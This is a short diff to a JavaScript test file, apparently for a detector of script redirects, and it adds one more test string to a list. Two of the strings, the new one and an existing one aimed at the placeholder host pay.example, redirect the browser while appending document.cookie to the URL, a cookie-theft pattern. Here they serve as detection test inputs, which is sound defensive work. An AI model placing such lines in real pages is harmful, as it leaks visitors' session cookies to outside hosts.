@@ -55,6 +55,7 @@ describe('a script', () => {
     `location.assign(base + '${pay}')`,
     // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of a script
     'location.href = `https://pay.example/${document.cookie}`',
+    `location.href = '${pay}&c=' + document.cookie;`,
     `relocation = '${pay}'`,
     `my.location = '${pay}'`,
     `location == '${pay}'`,
